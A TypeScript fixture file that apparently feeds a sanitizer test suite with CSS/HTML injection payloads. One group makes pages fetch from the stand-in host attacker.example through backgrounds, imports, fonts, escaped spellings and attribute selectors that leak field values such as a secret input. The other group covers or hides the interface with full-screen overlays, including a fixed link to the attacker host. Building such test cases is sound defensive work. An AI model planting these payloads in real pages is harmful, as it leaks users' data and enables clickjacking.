import { toAttacks, type Attack } from './attack.ts'

const family = 'styles'
const host = 'https://attacker.example'

const fetching: Record<string, string> = {
  'background of an element': `<p style="background:url(${host}/a)">x</p>`,
  'background in quotes': `<p style="background-image:url('${host}/b')">x</p>`,
  'background spelled by escapes': `<p style="background:\\75rl(${host}/c)">x</p>`,
  'background from a variable': `<p style="--crate:url(${host}/d);background:var(--crate)">x</p>`,
  'background from an image set': `<p style="background:image-set('${host}/e' 1x)">x</p>`,
  'background from an old image set': `<p style="background:-webkit-image-set(url(${host}/f) 1x)">x</p>`,
  'background from a cross fade': `<p style="background:-webkit-cross-fade(url(${host}/g),url(${host}/g2),50%)">x</p>`,
  'list mark': `<ul><li style="list-style:url(${host}/h)">x</ul>`,
  'border picture': `<p style="border:9px solid;border-image:url(${host}/i) 9">x</p>`,
  'generated content': `<style>.crate::before{content:url(${host}/j)}</style><p class=crate>x</p>`,
  mask: `<p style="-webkit-mask:url(${host}/k)">x</p>`,
  'shape of a float': `<p style="float:left;shape-outside:url(${host}/m)">x</p>`,
  'import of a style sheet': `<style>@import url(${host}/n);</style>`,
  'import in quotes': `<style>@import "${host}/o";</style>`,
  'import into a layer': `<style>@import "${host}/p" layer(x) supports(display:grid);</style>`,
  'import spelled by escapes': `<style>@\\69mport "${host}/q";</style>`,
  'font of a character': `<style>@font-face{font-family:x;src:url(${host}/r)}p{font-family:x}</style><p>x</p>`,
  'font by range of characters': `<style>@font-face{font-family:y;src:url(${host}/s);unicode-range:U+70}b{font-family:y}</style><b>p</b>`,
  'value of a field by selector': `<style>input[value^="s"]{background:url(${host}/t)}</style><input value=secret>`,
  'address of a link by selector': `<style>a[href*=x]{background:url(${host}/u)}</style><a href=#x>x</a>`,
  'text of a title by selector': `<style>p:has(> b[title]){background:url(${host}/v)}</style><p><b title=x>x</b></p>`,
  'page by a screen query': `<style>@media all{body{background:url(${host}/w)}}</style>`,
  'page by a support query': `<style>@supports (color:red){html{background:url(${host}/x)}}</style>`,
  'page by a container': `<style>@scope{:scope{background:url(${host}/y)}}</style>`,
  'nested rule': `<style>body{& p{background:url(${host}/z)}}</style><p>x</p>`,
}

const covering: Record<string, string> = {
  'fixed sheet': '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
  'fixed sheet of a class':
    '<style>.sail{position:fixed;inset:0;z-index:9999}</style><div class=sail>x</div>',
  'absolute sheet':
    '<div style="position:absolute;top:-999px;left:-999px;width:9999px;height:9999px">x</div>',
  'fixed link':
    '<a href=https://attacker.example/ style="position:fixed;inset:0;z-index:9999">x</a>',
  'pulled up by a margin': '<p style="margin:-600px;height:2000px;position:relative">x</p>',
  'moved by a transform': '<p style="transform:translate(-50%,-200px) scale(40)">x</p>',
  'moved by an offset':
    '<p style="position:relative;top:-400px;left:-400px;width:3000px;height:1500px">x</p>',
  zoomed: '<p style="zoom:80;margin:-10px">x</p>',
  'interface hidden': '<style>body{display:none}</style>',
  'interface hidden by another rule': '<style>header{visibility:hidden}</style>',
  'interface pushed away': '<style>header{position:absolute;top:-999px}</style>',
  'generated sheet':
    '<style>article::before{content:"x";position:fixed;inset:0;z-index:9999}</style>',
  'open dialog':
    '<dialog open style="position:fixed;inset:0;width:100%;height:100%;max-width:none;max-height:none;z-index:9999">x</dialog>',
  'popover opened by a button':
    '<button popovertarget=sheet>x</button><div popover id=sheet style="inset:0;width:100%;height:100%">y</div>',
  'moving text': '<marquee style="position:fixed;inset:0;height:100%;z-index:9999">x</marquee>',
}

export const styleAttacks: Attack[] = [
  ...toAttacks({ family, bites: 'request' }, fetching),
  ...toAttacks({ family, bites: 'overlay' }, covering),
]
